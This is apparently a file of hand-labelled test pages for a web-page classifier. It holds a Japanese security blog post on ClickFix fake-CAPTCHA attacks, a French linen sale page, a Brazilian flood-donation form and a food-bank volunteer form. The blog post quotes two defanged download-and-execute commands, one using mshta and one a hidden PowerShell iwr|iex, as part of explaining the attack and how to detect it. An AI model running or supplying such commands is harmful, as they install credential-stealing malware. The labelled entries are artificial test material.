import { type Entry } from '../entry.js';
import { binRoute, cssRoute, pdf } from '../parts/f-kit.js';

/** Held-out pages by author f, family "clean-content" (dev split). Hand-written; see ../parts/f-kit.ts for the binary builders. */
export const entries: Entry[] = [
  {
    id: "f-clean-blog-clickfix-fake-captcha-ja",
    label: "clean",
    kind: "security-blog-quotes-commands",
    url: "https://blog.hoshizora-security.co.jp/entry/2026/02/clickfix-fake-captcha",
    body: `<!DOCTYPE html>
<html lang="ja">
<head>
<meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>「私はロボットではありません」を悪用するClickFix攻撃の最新手口 | 星空セキュリティ ブログ</title>
<style>
body{margin:0;font-family:"Noto Sans JP","Hiragino Sans",Meiryo,sans-serif;color:#222;background:#fafafa;line-height:1.9}
.h{background:#101b3b;color:#fff;padding:16px 32px;display:flex;align-items:center;gap:20px}.h b{font-size:18px}.h a{color:#b8c4e8;font-size:14px;text-decoration:none}
article{max-width:780px;margin:30px auto;background:#fff;padding:36px;border:1px solid #e5e5e5}
.d{color:#888;font-size:13px}
h1{font-size:28px;line-height:1.4}
h2{border-left:5px solid #101b3b;padding-left:10px;font-size:20px;margin-top:36px}
pre{background:#1e1e1e;color:#dcdcdc;padding:14px;overflow:auto;font-size:13px;line-height:1.6;border-radius:4px}
.mock{border:1px solid #ccc;border-radius:6px;padding:16px;background:#f9f9f9;font-size:14px}
.mock ol{margin:8px 0}
.note{background:#fff7e0;border:1px solid #f0d48a;padding:12px;font-size:14px}
.tag{display:inline-block;background:#eef;padding:2px 8px;border-radius:10px;font-size:12px;margin-right:4px}
footer{text-align:center;font-size:12px;color:#888;padding:30px}
</style>
</head>
<body>
<div class="h"><b>星空セキュリティ ブログ</b><a href="/">トップ</a><a href="/category/threat">脅威情報</a><a href="/category/incident">インシデント対応</a></div>
<article>
 <div class="d">2026年2月9日 ・ SOCアナリスト 田中 美咲</div>
 <span class="tag">ClickFix</span><span class="tag">偽CAPTCHA</span><span class="tag">情報窃取マルウェア</span>
 <h1>「私はロボットではありません」を悪用するClickFix攻撃の最新手口</h1>
 <p>2025年以降、正規サイトの改ざんやマルバタイジングを入口として、偽のCAPTCHA画面でユーザー自身にコマンドを実行させる「ClickFix」攻撃が国内でも急増しています。本記事では、当社SOCが1月に観測した事例をもとに手口と対策を解説します。</p>
 <h2>1. 被害者が見る画面</h2>
 <p>改ざんされたサイトを開くと、Cloudflare風の認証画面が表示され、チェックボックスをクリックすると次のような「追加の確認手順」が表示されます（画面を再現したもの）。</p>
 <div class="mock"><b>人間であることを確認してください</b><ol><li>Windows キー + R を押します</li><li>Ctrl + V を押します</li><li>Enter キーを押します</li></ol><small>※ 本ブログ上の再現であり、クリップボードへの書き込みは行いません。</small></div>
 <p>チェックボックスをクリックした時点で、JavaScriptによりクリップボードへ次のようなコマンドがコピーされています。</p>
<pre>mshta hxxps://check-verify-human[.]online/captcha.hta  # ✅ I am not a robot - reCAPTCHA Verification ID: 4417</pre>
 <p>別の亜種ではPowerShellが使われていました（URLは無害化済み）。</p>
<pre>powershell -w hidden -c "iwr hxxps://cdn-update-check[.]top/v.ps1 -UseBasicParsing | iex"</pre>
 <p>末尾のコメント部分は「ファイル名を指定して実行」ダイアログ上でコマンド本体が見えにくくなるよう、長い文字列で押し出す目的で付加されています。最終的にLumma StealerやVidarなどの情報窃取型マルウェアが実行され、ブラウザの保存パスワードや暗号資産ウォレットが盗まれます。</p>
 <h2>2. 検知と対策</h2>
 <ul><li><b>正規のCAPTCHAが、ユーザーにキーボード操作やコマンド実行を求めることはありません。</b></li><li>グループポリシーで「ファイル名を指定して実行」（Win+R）を無効化する、またはmshta.exeの実行をAppLockerで制限する。</li><li>EDRで <code>explorer.exe → mshta.exe / powershell.exe</code> の親子関係とRunMRUレジストリへの書き込みを監視する。</li></ul>
 <div class="note">社内向け周知文のテンプレートを<a href="/download/clickfix-awareness.pdf">PDF</a>で公開しています。ご自由にお使いください。</div>
</article>
<footer>© 2026 星空セキュリティ株式会社 ・ プライバシーポリシー ・ お問い合わせ</footer>
</body>
</html>
`,
    routes: {
      "blog.hoshizora-security.co.jp/download/clickfix-awareness.pdf": binRoute(pdf('ClickFix awareness - Hoshizora Security', ['Legitimate CAPTCHAs never ask you to press Win+R or paste commands.', 'If a website asks you to run something, close it and report it to IT.']), 'application/pdf'),
    },
  },
  {
    id: "f-clean-shop-maison-lavande-soldes",
    label: "clean",
    kind: "shop-big-sale",
    url: "https://www.maison-lavande.fr/soldes-hiver?utm_source=newsletter&utm_medium=email&utm_campaign=soldes_j3",
    body: `<!DOCTYPE html>
<html lang="fr">
<head>
<meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Soldes d'hiver jusqu'à -70 % | Maison Lavande – Linge de maison</title>
<link rel="stylesheet" href="/cdn/shop/t/12/assets/base.css?v=1738840122">
<script>window.Shopify=window.Shopify||{};Shopify.shop="maison-lavande.myshopify.com";Shopify.locale="fr";Shopify.currency={"active":"EUR","rate":"1.0"};</script>
</head>
<body>
<div class="promo">DERNIERS JOURS · Soldes jusqu'à -70 % · Livraison offerte dès 60 € · Fin dans <b id="cd">--:--:--</b></div>
<header class="hd"><a class="lg" href="/">Maison Lavande</a><nav><a href="/collections/linge-de-lit">Linge de lit</a><a href="/collections/bain">Bain</a><a href="/collections/table">Table</a><a href="/collections/soldes" class="red">Soldes</a></nav><div class="ic"><a href="/account/login">Compte</a><a href="/cart">Panier (0)</a></div></header>
<section class="hero"><h1>Soldes d'hiver</h1><p>Lin lavé, percale de coton bio et gaze de coton fabriqués au Portugal. Jusqu'à -70 % sur une sélection, quantités limitées.</p><a class="cta" href="/collections/soldes">J'en profite</a></section>
<section class="grid">
 <div class="p"><div class="im" style="background:#d9cbb8"></div><b>Housse de couette lin lavé – Sable</b><span><s>189 €</s> <em>94,50 €</em> <i>-50 %</i></span></div>
 <div class="p"><div class="im" style="background:#b7c4b0"></div><b>Drap housse percale bio – Sauge</b><span><s>59 €</s> <em>17,70 €</em> <i>-70 %</i></span></div>
 <div class="p"><div class="im" style="background:#e8dfe9"></div><b>Serviette de bain gaufrée – Lavande</b><span><s>32 €</s> <em>16 €</em> <i>-50 %</i></span></div>
 <div class="p"><div class="im" style="background:#c9b3a0"></div><b>Nappe lin – Terracotta</b><span><s>95 €</s> <em>38 €</em> <i>-60 %</i></span></div>
</section>
<section class="nl"><h2>-10 % sur votre première commande</h2><form action="/contact#newsletter" method="post"><input type="hidden" name="form_type" value="customer"><input name="contact[email]" type="email" placeholder="Votre adresse e-mail"><button>Je m'inscris</button></form></section>
<footer class="ft"><div>Paiement sécurisé : CB, Visa, Mastercard, PayPal, Apple Pay · Retours gratuits sous 30 jours</div><div>© 2026 Maison Lavande SAS · Mentions légales · CGV · Politique de confidentialité · Gérer les cookies</div></footer>
<div class="cookie" id="ck"><p>Nous utilisons des cookies pour mesurer l'audience et personnaliser les publicités. <a href="/pages/cookies">En savoir plus</a></p><button id="ckno">Continuer sans accepter</button><button id="ckok">Tout accepter</button></div>
<script>
(function(){var end=new Date();end.setHours(23,59,59,0);function t(){var s=Math.max(0,Math.floor((end-new Date())/1000));document.getElementById('cd').textContent=[Math.floor(s/3600),Math.floor(s%3600/60),s%60].map(function(n){return String(n).padStart(2,'0')}).join(':')}t();setInterval(t,1000);
['ckno','ckok'].forEach(function(id){document.getElementById(id).onclick=function(){document.cookie='consent='+(id==='ckok'?'all':'none')+';path=/;max-age=15552000';document.getElementById('ck').remove()}})})();
</script>
</body>
</html>
`,
    routes: {
      "www.maison-lavande.fr/cdn/shop/t/12/assets/base.css": cssRoute(`body{margin:0;font-family:"Cormorant Garamond",Georgia,serif;color:#2e2a26;background:#fbf9f6}.promo{background:#2e2a26;color:#fbf9f6;text-align:center;font:13px Arial,sans-serif;padding:8px;letter-spacing:1px}.hd{display:flex;align-items:center;padding:18px 40px;gap:40px}.lg{font-size:26px;color:#2e2a26;text-decoration:none;letter-spacing:2px}.hd nav a{font-family:Arial;font-size:13px;text-transform:uppercase;letter-spacing:1px;color:#2e2a26;margin-right:22px;text-decoration:none}.hd nav a.red{color:#b3261e}.ic{margin-left:auto;font-family:Arial;font-size:13px}.ic a{color:#2e2a26;margin-left:16px}.hero{text-align:center;padding:60px 20px;background:#efe7dc}.hero h1{font-size:54px;margin:0;font-weight:400}.cta{display:inline-block;margin-top:16px;background:#2e2a26;color:#fff;padding:12px 30px;text-decoration:none;font-family:Arial;font-size:13px;letter-spacing:2px;text-transform:uppercase}.grid{max-width:1100px;margin:40px auto;display:grid;grid-template-columns:repeat(4,1fr);gap:20px;padding:0 20px}.p .im{aspect-ratio:3/4;margin-bottom:10px}.p b{display:block;font-weight:400;font-size:17px}.p span{font-family:Arial;font-size:14px}.p em{color:#b3261e;font-style:normal;font-weight:700}.p i{background:#b3261e;color:#fff;font-style:normal;font-size:11px;padding:1px 5px;margin-left:4px}.nl{text-align:center;padding:40px;background:#fff}.nl input{padding:10px;width:260px;border:1px solid #ccc}.nl button{padding:10px 20px;background:#2e2a26;color:#fff;border:0}.ft{font-family:Arial;font-size:12px;color:#6b645c;text-align:center;padding:30px;line-height:2}.cookie{position:fixed;left:20px;bottom:20px;width:340px;background:#fff;box-shadow:0 4px 20px rgba(0,0,0,.15);padding:16px;font:13px Arial,sans-serif}.cookie button{margin:4px 6px 0 0;padding:8px 12px;border:1px solid #2e2a26;background:#fff}.cookie #ckok{background:#2e2a26;color:#fff}
`),
    },
  },
  {
    id: "f-clean-charity-mar-aberto-doacao",
    label: "clean",
    kind: "charity-donation",
    url: "https://doe.fundacaomaraberto.org.br/campanha/enchentes-rs-2026",
    body: `<!DOCTYPE html>
<html lang="pt-BR">
<head>
<meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Doe agora – Emergência enchentes RS | Fundação Mar Aberto</title>
<style>
body{margin:0;font-family:"Nunito",Arial,sans-serif;background:#f5f9fb;color:#1f2e3a}
.h{background:#fff;display:flex;align-items:center;padding:14px 30px;gap:10px;border-bottom:1px solid #e2ebf0}
.h i{width:30px;height:30px;border-radius:50%;background:linear-gradient(#0277bd 50%,#4fc3f7 50%)}.h b{font-size:18px;color:#01579b}
.g{max-width:1000px;margin:30px auto;display:grid;grid-template-columns:1.1fr 1fr;gap:30px;padding:0 20px}
.txt h1{font-size:32px;margin-top:0;line-height:1.2}
.bar{height:12px;background:#dbe7ee;border-radius:6px;overflow:hidden;margin:10px 0}.bar i{display:block;height:100%;width:68%;background:#2e7d32}
.txt small{color:#556}
.f{background:#fff;border-radius:14px;padding:24px;box-shadow:0 2px 10px rgba(0,0,0,.05)}
.val{display:grid;grid-template-columns:repeat(3,1fr);gap:8px;margin-bottom:12px}.val button{padding:12px;border:1px solid #b0c4d0;background:#fff;border-radius:8px;font-weight:700;cursor:pointer}.val .on{background:#01579b;color:#fff;border-color:#01579b}
.tabs{display:flex;gap:8px;margin:10px 0}.tabs span{flex:1;text-align:center;padding:8px;border-radius:8px;background:#eef4f8;font-size:14px;cursor:pointer}.tabs .on{background:#01579b;color:#fff}
label{display:block;font-size:13px;margin:10px 0 4px}
input{width:100%;box-sizing:border-box;padding:10px;border:1px solid #b0c4d0;border-radius:8px;font-size:15px}
.r{display:flex;gap:8px}.r>div{flex:1}
.doar{width:100%;margin-top:16px;background:#2e7d32;color:#fff;border:0;border-radius:8px;padding:14px;font-size:16px;font-weight:700;cursor:pointer}
.sel{font-size:12px;color:#556;margin-top:10px;line-height:1.5}
.pix{display:none;text-align:center}.pix .qr{width:160px;height:160px;margin:10px auto;background:repeating-linear-gradient(90deg,#000 0 6px,#fff 6px 12px),repeating-linear-gradient(0deg,#000 0 6px,#fff 6px 12px);background-blend-mode:difference}
.ft{text-align:center;font-size:12px;color:#667;padding:30px}
</style>
</head>
<body>
<div class="h"><i></i><b>Fundação Mar Aberto</b></div>
<div class="g">
 <div class="txt">
  <h1>Emergência: famílias atingidas pelas enchentes no Rio Grande do Sul</h1>
  <p>As chuvas de fevereiro desalojaram mais de 40 mil pessoas. Sua doação compra água potável, kits de higiene e colchões, distribuídos com a Defesa Civil em Canoas, Eldorado do Sul e São Leopoldo.</p>
  <div class="bar"><i></i></div><small><b>R$ 1.362.480</b> arrecadados de R$ 2.000.000 · 18.944 doadores</small>
  <p>A Fundação Mar Aberto é uma OSCIP (CNPJ 12.345.678/0001-90) auditada anualmente. Prestação de contas completa em <a href="https://www.fundacaomaraberto.org.br/transparencia">fundacaomaraberto.org.br/transparencia</a>.</p>
 </div>
 <form class="f" method="post" action="/campanha/enchentes-rs-2026/doar">
  <div class="val"><button type="button">R$ 30</button><button type="button" class="on">R$ 80</button><button type="button">R$ 150</button><button type="button">R$ 300</button><button type="button">R$ 500</button><button type="button">Outro</button></div>
  <div class="tabs"><span class="on" data-t="cartao">Cartão</span><span data-t="pix">Pix</span><span data-t="boleto">Boleto</span></div>
  <div id="cartao">
   <label>Nome completo</label><input name="nome" autocomplete="name">
   <label>E-mail (para o recibo)</label><input name="email" type="email" autocomplete="email">
   <label>CPF (opcional, para dedução no IR)</label><input name="cpf" inputmode="numeric">
   <label>Número do cartão</label><input name="cc" inputmode="numeric" autocomplete="cc-number">
   <div class="r"><div><label>Validade</label><input name="exp" placeholder="MM/AA" autocomplete="cc-exp"></div><div><label>CVV</label><input name="cvv" maxlength="4" autocomplete="cc-csc"></div></div>
   <label style="display:flex;gap:6px;align-items:center"><input type="checkbox" name="mensal" style="width:auto"> Quero doar todo mês</label>
  </div>
  <div class="pix" id="pix"><p>Escaneie o QR Code ou use a chave Pix <b>doe@fundacaomaraberto.org.br</b></p><div class="qr"></div></div>
  <button class="doar">Doar agora</button>
  <p class="sel">Pagamento processado pela Pagar.me com criptografia TLS. Não armazenamos os dados do seu cartão.</p>
 </form>
</div>
<div class="ft">© 2026 Fundação Mar Aberto · Porto Alegre/RS · Política de privacidade</div>
<script>
document.querySelectorAll('.val button').forEach(function(b){b.onclick=function(){document.querySelectorAll('.val button').forEach(function(x){x.classList.remove('on')});b.classList.add('on')}});
document.querySelectorAll('.tabs span').forEach(function(s){s.onclick=function(){document.querySelectorAll('.tabs span').forEach(function(x){x.classList.remove('on')});s.classList.add('on');document.getElementById('cartao').style.display=s.dataset.t==='cartao'?'block':'none';document.getElementById('pix').style.display=s.dataset.t==='pix'?'block':'none'}});
</script>
</body>
</html>
`,
  },
  {
    id: "f-clean-form-builder-formlane-volunteer",
    label: "clean",
    kind: "hosted-form-builder",
    url: "https://forms.formlane.com/f/7Gq2XhKd/riverside-food-bank-volunteer-signup",
    body: `<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Volunteer Sign-Up – Riverside Food Bank</title>
<meta name="robots" content="noindex">
<link rel="stylesheet" href="https://static.formlane.com/render/v3/form.css">
</head>
<body class="fl-body">
<main class="fl-form">
 <div class="fl-cover" style="background:#2f855a"><h1>Riverside Food Bank – Volunteer Sign-Up</h1><p>Help us sort and distribute groceries to 1,200 families every week.</p></div>
 <form method="post" action="https://submit.formlane.com/v1/forms/7Gq2XhKd/responses" class="fl-fields">
  <label class="fl-q">Full name <span class="req">*</span><input name="q1" required></label>
  <label class="fl-q">Email address <span class="req">*</span><input name="q2" type="email" required></label>
  <label class="fl-q">Phone number<input name="q3" type="tel"></label>
  <fieldset class="fl-q"><legend>Which shifts can you do? <span class="req">*</span></legend>
   <label class="fl-c"><input type="checkbox" name="q4" value="tue-am"> Tuesday 9–12 (sorting)</label>
   <label class="fl-c"><input type="checkbox" name="q4" value="thu-pm"> Thursday 3–6 (distribution)</label>
   <label class="fl-c"><input type="checkbox" name="q4" value="sat-am"> Saturday 8–11 (mobile pantry)</label>
  </fieldset>
  <label class="fl-q">Anything we should know? (allergies, accessibility needs)<textarea name="q5" rows="3"></textarea></label>
  <button class="fl-submit" style="background:#2f855a">Submit</button>
 </form>
 <div class="fl-footer">
  <p>This form was created by <b>Riverside Food Bank</b> using Formlane. Formlane is not responsible for the content of this form. <b>Never submit passwords or payment card details through Formlane forms.</b></p>
  <p><a href="https://www.formlane.com/report-abuse?form=7Gq2XhKd">Report abuse</a> · <a href="https://www.formlane.com/?utm_source=form_footer">Create your own form — it's free</a></p>
 </div>
</main>
</body>
</html>
`,
    routes: {
      "static.formlane.com/render/v3/form.css": cssRoute('body.fl-body{margin:0;background:#f2f4f3;font-family:"Inter",Arial,sans-serif;color:#1f2933}.fl-form{max-width:640px;margin:30px auto}.fl-cover{color:#fff;padding:30px;border-radius:10px 10px 0 0}.fl-cover h1{margin:0 0 6px;font-size:26px}.fl-fields{background:#fff;padding:26px;border-radius:0 0 10px 10px}.fl-q{display:block;font-weight:600;font-size:15px;margin-bottom:18px;border:0;padding:0}.fl-q input,.fl-q textarea{display:block;width:100%;box-sizing:border-box;margin-top:6px;padding:10px;border:1px solid #cbd2d9;border-radius:6px;font-size:15px;font-weight:400}.fl-c{display:block;font-weight:400;margin:6px 0}.req{color:#c53030}.fl-submit{color:#fff;border:0;border-radius:6px;padding:12px 28px;font-size:15px;cursor:pointer}.fl-footer{font-size:12px;color:#616e7c;text-align:center;padding:18px}.fl-footer a{color:#616e7c}'),
    },
  },
];
